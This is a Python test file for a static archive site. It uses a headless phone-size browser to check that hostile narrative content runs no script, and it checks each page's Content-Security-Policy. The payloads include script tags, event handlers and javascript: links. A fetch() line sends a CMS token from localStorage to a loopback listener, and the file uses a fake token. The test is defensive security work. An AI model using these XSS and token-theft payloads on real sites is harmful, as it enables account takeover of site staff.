"""No entry can run script in a visitor's browser: the hostile narratives of issue 18 in a real
headless Chromium at phone size (no dialog, no request to a loopback listener, the staff token in
`localStorage` stays put), and the Content-Security-Policy of every page, with no violation by
the archive's own scripts on the home page, an activity, Statistik, search and /admin/."""

from __future__ import annotations

import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urljoin

import pytest
from conftest import build_project, read_config, write_config
from harmoni_arsip.pages.policy import inline_script_hashes, with_page_policy
from test_browser import HEIGHT, LOCAL_HOST, TIMEOUT_MS, WIDTH, _served

TOKEN = '{"backendName":"github","token":"ghp_PALSU0000000000000000000000000000000"}'
"""What Sveltia CMS keeps in `localStorage['sveltia-cms.user']` after a staff member signs in."""
STEAL = "fetch('{listener}{path}?'+encodeURIComponent(localStorage['sveltia-cms.user']))"
NARRATIVE = """Pembukaan kegiatan oleh kepala dinas.

<script>{steal_script};alert('script')</script>

<img src="x" onerror="{steal_onerror};alert('onerror')">

<a href="javascript:{steal_link};alert('tautan')">Tautan berbahaya</a>

[Tautan Markdown](javascript:alert('markdown'))

<iframe src="{listener}iframe"></iframe>

<iframe srcdoc="&lt;script&gt;parent.alert('srcdoc')&lt;/script&gt;"></iframe>

<form action="{listener}form" method="post"><button>Kirim formulir</button></form>

<meta http-equiv="refresh" content="1;url={listener}refresh">

<object data="{listener}object"></object>

Paragraf yang diklik
{{: onclick="{steal_onclick};alert('onclick')" }}

<svg><image href="{listener}svg" onload="alert('svg')"/></svg>
"""
"""Each payload of the issue: a script, an event handler, `javascript:` links, frames, a form,
a refresh, an object, attr_list's `{: onclick }`, SVG."""

SPY = """window.__pelanggaran = [];
document.addEventListener("securitypolicyviolation", (event) => {
  const where = `${event.sourceFile}:${event.lineNumber}`;
  window.__pelanggaran.push(`${event.violatedDirective} ${event.blockedURI} ${where}`);
});"""
"""Records every CSP violation report of the page (registered before any of its scripts)."""


class _Listener(BaseHTTPRequestHandler):
    """Records every request it gets (what a stolen token would reach)."""

    heard: list[str] = []

    def _record(self) -> None:
        type(self).heard.append(f"{self.command} {self.path}")
        self.send_response(204)
        self.end_headers()

    do_GET = do_POST = do_HEAD = do_OPTIONS = _record

    def log_message(self, format, *args):  # noqa: A002 - the standard library's name
        pass


@pytest.fixture(scope="module")
def listener():
    """An HTTP listener on loopback; its address and what it heard."""
    _Listener.heard = []
    server = ThreadingHTTPServer((LOCAL_HOST, 0), _Listener)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://{LOCAL_HOST}:{server.server_address[1]}/", _Listener.heard
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory, warm_copy, listener):
    """The demo with `NARRATIVE` as the narrative of 2024-004, served; that page's address."""
    address, _ = listener
    project = warm_copy(tmp_path_factory.mktemp("narasi-jahat") / "proyek")
    index = next((project / "kegiatan").rglob("2024-06-25-peluncuran-harmoni/index.md"))
    head = index.read_text("utf-8").partition("\n---\n")[0] + "\n---\n\n"
    steal = {f"steal_{name}": STEAL.format(listener=address, path=name)
             for name in ("script", "onerror", "link", "onclick")}  # fmt: skip
    index.write_text(head + NARRATIVE.format(listener=address, **steal), "utf-8")
    result = build_project(project)
    assert any("narasi memuat elemen `<script>`" in w for w in result.warnings)
    with _served(result.site) as url:
        yield urljoin(url, "k/2024-004/")


def _phone(browser):
    context = browser.new_context(
        viewport={"width": WIDTH, "height": HEIGHT}, device_scale_factor=2, is_mobile=True,
        has_touch=True, locale="id-ID", service_workers="block",
    )  # fmt: skip
    context.set_default_timeout(TIMEOUT_MS)
    context.add_init_script(SPY)
    return context


@pytest.mark.browser
def test_hostile_narrative_runs_no_script(browser, hostile_url, listener):
    _, heard = listener
    context = _phone(browser)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(urljoin(hostile_url, "../../"))  # the editor was used in this browser
    page.evaluate("(token) => localStorage.setItem('sveltia-cms.user', token)", TOKEN)
    page.goto(hostile_url)
    page.wait_for_load_state("networkidle")
    narrative = page.locator(".harmoni-narasi")
    assert "Pembukaan kegiatan oleh kepala dinas." in narrative.inner_text()
    for link in narrative.locator("a").all():
        link.click(no_wait_after=True)
    page.get_by_text("Paragraf yang diklik").click()
    page.wait_for_timeout(2500)  # longer than the refresh's one second
    assert dialogs == []
    assert heard == []
    assert page.url == hostile_url
    assert narrative.locator("script, iframe, form, object, svg, meta, [onclick]").count() == 0
    assert page.evaluate("window.__pelanggaran") == []  # nothing even tried to run
    context.close()


def _violations(page) -> list[str]:
    return page.evaluate("window.__pelanggaran")


@pytest.fixture(scope="module")
def demo_url(demo_site):
    with _served(demo_site.site) as url:
        yield url


@pytest.mark.browser
def test_public_pages_run_their_own_scripts_without_violations(browser, demo_url):
    context = _phone(browser)
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    context.route(re.compile(r"^https?://(?!127\.0\.0\.1)"), lambda route: route.abort())
    for path in ("", "statistik/", "k/2024-004/"):
        page.goto(urljoin(demo_url, path))
        page.wait_for_load_state("networkidle")
        assert _violations(page) == [], path
    page.locator(".harmoni-galeri a.glightbox").first.click()  # harmoni.js loads GLightbox
    page.locator(".gslide.current img").wait_for()
    page.keyboard.press("Escape")
    play = page.locator(".harmoni-sematan button")
    if play.count():
        play.first.click()  # the platform's player: a frame the policy allows
        page.locator(".harmoni-sematan iframe").first.wait_for(state="attached")
    assert _violations(page) == []
    page.goto(demo_url)
    box = page.locator("form.harmoni-cari input")  # the archive's own box, loading Pagefind
    box.click()
    box.press_sequentially("pelatihan")
    page.wait_for_function(
        "() => document.querySelector('.harmoni-cari-hasil')?.dataset.selesai === 'pelatihan'"
    )
    assert page.locator(".harmoni-cari-hasil a").count() > 0
    assert _violations(page) == []
    assert not [e for e in errors if "Content Security Policy" in e or "Refused" in e], errors
    context.close()


@pytest.mark.browser
def test_the_editor_runs_under_its_own_policy(browser, demo_url):
    context = _phone(browser)
    context.route(re.compile(r"^https?://(?!127\.0\.0\.1)"), lambda route: route.abort())
    page = context.new_page()
    page.goto(urljoin(demo_url, "admin/"))
    page.get_by_role("button", name="Masuk dengan Token Akses").wait_for()
    page.wait_for_load_state("networkidle")
    assert _violations(page) == []
    fonts = page.evaluate("[...document.fonts].filter(f => f.status === 'loaded').length")
    assert fonts >= 2  # the bundled fonts load from /admin/ itself
    context.close()


@pytest.mark.browser
def test_the_visit_counter_runs_under_the_policy(browser, tmp_path, warm_copy):
    project = warm_copy(tmp_path / "proyek")
    config = read_config(project)
    config["extra"]["harmoni"]["kunjungan"] = {"goatcounter": "https://arsip.goatcounter.com"}
    write_config(project, config)
    site = build_project(project).site
    home = (site / "index.html").read_text("utf-8")
    assert "img-src 'self' data: https://arsip.goatcounter.com" in home
    with _served(site) as url:
        context = _phone(browser)
        page = context.new_page()
        page.goto(urljoin(url, "k/2024-004/#q"))
        page.wait_for_load_state("networkidle")
        assert page.url == urljoin(url, "k/2024-004/")  # the inline counter removed `#q`
        assert _violations(page) == []
        context.close()


POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')


def test_every_page_carries_its_policy_before_any_script(demo_site):
    pages = list(demo_site.site.rglob("*.html"))
    assert len(pages) > 30
    for path in pages:
        html = path.read_text("utf-8")
        match = POLICY.search(html)
        assert match, path
        assert "<script" not in html[: match.start()], path
        policy = dict(d.strip().split(" ", 1) for d in match.group(1).split(";"))
        assert "'unsafe-inline'" not in policy["script-src"]
        assert "'unsafe-eval'" not in policy["script-src"]
        for digest in inline_script_hashes(html):  # the demo's narratives hold none
            assert digest in policy["script-src"].split(), path


def test_a_script_in_the_content_is_never_allowed():
    content = "<p>Narasi</p><script>curi()</script>"
    page = (
        '<html><head><meta charset="utf-8"><script>tema()</script></head>'
        f"<body><article>{content}</article><script>akhir()</script></body></html>"
    )
    built = with_page_policy(page, content, "https://arsip.goatcounter.com")
    policy = POLICY.search(built)
    assert policy and built.index(policy.group(0)) < built.index("<script")
    theme, end, theft = (inline_script_hashes(f"<script>{s}</script>")[0]
                         for s in ("tema()", "akhir()", "curi()"))  # fmt: skip
    assert theme in policy.group(1) and end in policy.group(1)
    assert theft not in policy.group(1)
    assert "connect-src 'self' https://arsip.goatcounter.com" in policy.group(1)
